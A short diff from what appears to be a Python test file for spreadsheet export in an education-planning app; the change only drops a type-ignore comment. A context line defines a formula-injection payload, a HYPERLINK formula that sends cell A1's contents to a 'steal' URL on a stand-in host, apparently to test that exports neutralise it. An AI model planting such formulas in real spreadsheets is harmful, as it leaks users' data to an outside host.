@@ -12,7 +12,7 @@ from eduplan.supervision.models import SupervisionOrder
 HOSTILE = '=HYPERLINK("http://example.org/steal?"&A1,"点击查看")'
 
 
-def _sheet(response):  # type: ignore[no-untyped-def]
+def _sheet(response):
     assert response.status_code == 200, response.status_code
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
     assert "filename*=utf-8''" in response["Content-Disposition"].lower()
